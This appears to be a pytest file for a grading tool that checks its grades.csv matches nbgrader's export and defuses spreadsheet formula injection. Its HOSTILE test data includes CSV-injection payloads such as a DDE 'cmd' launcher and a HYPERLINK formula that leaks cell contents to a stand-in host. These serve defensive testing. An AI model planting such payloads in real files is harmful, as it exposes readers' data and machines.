"""grades.csv written inside `convgrade grade` is the file `nbgrader export` writes, with
quoting that holds and no cell a spreadsheet would run."""

import csv
import re
import shutil
import sqlite3

import pytest
from nbgrader.api import Gradebook
from support import REPO, nbgrader

from convgrade import cli
from convgrade.reports import class_page, grades_csv
from convgrade.reports.grades_csv import COLUMNS, write_grades_csv

# What a roster import (`nbgrader db student import`) or a hand-made folder can put in an id,
# a name or an e-mail: formula starts (OWASP "CSV injection"), CSV syntax, unicode.
HOSTILE = {
    "equals": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+2",
    "cr": "\r=1+2",
    "lf": "\n=1+2",
    "space-then-formula": "  =1+2",
    "quotes": '"Al" Ada Ng',
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "comma": "Ng, Jr.",
    "newline": "two\nlines",
    "unicode-space-then-formula": "\u3000@SUM(A1)",
    "unicode": "Zoë Ñúñez 李, Jr.",
    # Excel in a ';' locale splits a comma file at ';' (red team), others at tabs or '|'.
    "semicolon-then-formula": 'Ng;=HYPERLINK("http://evil.example/","x")',
    "tab-inside-then-formula": "Ng\t@SUM(1+1)",
    "comma-then-formula": "Ng, -1+1",
}


def runs_as_formula(cell):
    """Whether a spreadsheet would take this text cell, or any part of it that another
    locale's separator (';', tab, ',', '|') makes a cell of its own, as a formula (the
    test's own oracle)."""
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    for part in re.split(r"[;\t,|]", cell):
        start = part.lstrip()
        try:
            float(start)
        except ValueError:
            if start[:1] in ("=", "+", "-", "@"):
                return True
    return False


def only_quotes_added(cell, value):
    """Whether `cell` is `value` with nothing but some ' put in."""
    matched = 0
    for char in cell:
        if matched < len(value) and char == value[matched]:
            matched += 1
        elif char != "'":
            return False
    return matched == len(value)


def read_rows(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def course_with_gradebook(root):
    """A course folder with the sample's configuration and gradebook; returns its Gradebook URL."""
    root.mkdir()
    for name in ("nbgrader_config.py", "gradebook.db"):
        shutil.copy(REPO / name, root / name)
    return f"sqlite:///{root / 'gradebook.db'}"


def test_is_grades_csv_the_one_nbgrader_export_writes(tmp_path):
    """On a copy of the sample class's course (real gradebook, five students graded)."""
    course = tmp_path / "course"
    course.mkdir()
    for name in ("nbgrader_config.py", "gradebook.db"):
        shutil.copy(REPO / name, course / name)
    exported = nbgrader(course, "export", "--to", "exported.csv")
    assert exported.returncode == 0, exported.stderr[-2000:]
    written = write_grades_csv(course)
    assert written == course / "grades.csv"
    # The same rows and values; written with csv's line ends (CRLF, as RFC 4180 has them).
    expected = (course / "exported.csv").read_text().splitlines()
    assert written.read_text(encoding="utf-8").splitlines() == expected
    assert len(expected) == 6  # a header and one row per sample student


def test_does_a_course_export_plugin_write_it(tmp_path):
    """c.ExportApp.plugin_class is honoured, as `nbgrader export` honours it."""
    course = tmp_path / "course"
    course.mkdir()
    shutil.copy(REPO / "gradebook.db", course / "gradebook.db")
    (course / "plugin.py").write_text(
        "from nbgrader.plugins import ExportPlugin\n"
        "class Plain(ExportPlugin):\n"
        "    def export(self, gradebook):\n"
        "        names = sorted(s.id for s in gradebook.students)\n"
        "        open(self.to, 'w').write(','.join(names))\n"
    )
    config = (REPO / "nbgrader_config.py").read_text()
    config += f"\nimport sys; sys.path.insert(0, {str(course)!r})\n"
    config += "from plugin import Plain\nc.ExportApp.plugin_class = Plain\n"
    (course / "nbgrader_config.py").write_text(config)
    written = write_grades_csv(course)
    assert written.read_text() == "complete,flipped-kernel,half-done,uint8-wraparound,untouched"


def test_a_result_that_cannot_be_written_is_named_and_the_other_is_written(
    tmp_path, monkeypatch, capsys
):
    """After grading, a report that fails says why, in one line, and grades.csv is still
    written (and the other way round); the exit code says part of the work was not done."""
    course = tmp_path / "course"
    course.mkdir()
    for name in ("nbgrader_config.py", "gradebook.db"):
        shutil.copy(REPO / name, course / name)

    def broken(*args):
        raise OSError("disk full\nwhile writing the page")

    monkeypatch.setattr(class_page, "write_report", broken)
    assert cli._bring_results_up_to_date(course, "convolutions") == cli.PARTLY_DONE
    printed = capsys.readouterr()
    assert "wrote grades.csv" in printed.out and (course / "grades.csv").exists()
    assert printed.err.strip() == (
        "convgrade: could not write reports/convolutions.html: while writing the page"
    )
    monkeypatch.undo()
    monkeypatch.setattr(grades_csv, "write_grades_csv", broken)
    assert cli._bring_results_up_to_date(course, "convolutions") == cli.PARTLY_DONE
    printed = capsys.readouterr()
    assert "could not write grades.csv" in printed.err
    assert "wrote reports/convolutions.html" in printed.out
    assert (course / "reports" / "convolutions.html").exists()


@pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE.keys())
def test_does_every_cell_read_back_as_written_and_never_as_a_formula(tmp_path, value):
    """A hostile student id, name and e-mail: each row still has nbgrader's 11 columns, and
    each cell is the value, or the value after a ' where it would start a formula."""
    url = course_with_gradebook(tmp_path / "course")
    with Gradebook(url, "convolutions") as gradebook:
        gradebook.update_or_create_student(
            "complete", first_name=value, last_name=value, email=value
        )
        gradebook.add_student(value, first_name="Eve", last_name=value)
    rows = read_rows(write_grades_csv(tmp_path / "course"))
    assert [list(row) for row in rows] == [list(COLUMNS)] * 6  # no extra or missing field
    assert None not in (v for row in rows for v in row.values())
    by_id = {row["student_id"]: row for row in rows}
    hostile_id = next(i for i in by_id if i != "complete" and only_quotes_added(i, value))
    holding_value = {
        "complete": ("last_name", "first_name", "email"),
        hostile_id: ("student_id", "last_name"),
    }
    for student, columns in holding_value.items():
        row = by_id[student]
        for column in columns:
            cell = row[column]
            assert only_quotes_added(cell, value), (column, cell)
            assert not runs_as_formula(cell), (column, cell)
        float(row["score"])  # scores are numbers still


def test_does_a_negative_score_stay_a_number_beside_a_name_that_is_not(tmp_path):
    """A TA's negative manual score gives a negative raw_score: a number, written as one,
    while a name such as -2+3 in the same row becomes text."""
    root = tmp_path / "course"
    url = course_with_gradebook(root)
    with sqlite3.connect(root / "gradebook.db") as db:
        db.execute(
            "update grade set manual_score = -40 where id = (select grade.id from grade "
            "join submitted_notebook n on grade.notebook_id = n.id "
            "join submitted_assignment a on n.assignment_id = a.id "
            "where a.student_id = 'complete' and grade.auto_score > 0 limit 1)"
        )
    with Gradebook(url, "convolutions") as gradebook:
        gradebook.update_or_create_student("complete", last_name="-2+3")
    path = write_grades_csv(root)
    (row,) = [row for row in read_rows(path) if row["student_id"] == "complete"]
    assert row["last_name"] == "'-2+3"
    assert float(row["raw_score"]) < 0 and row["raw_score"] == f"{float(row['raw_score'])!r}"
    assert f",{row['raw_score']}," in path.read_text(encoding="utf-8")  # no quotes, no '
    assert row["score"] == "0.0"  # as nbgrader: the score never goes below 0
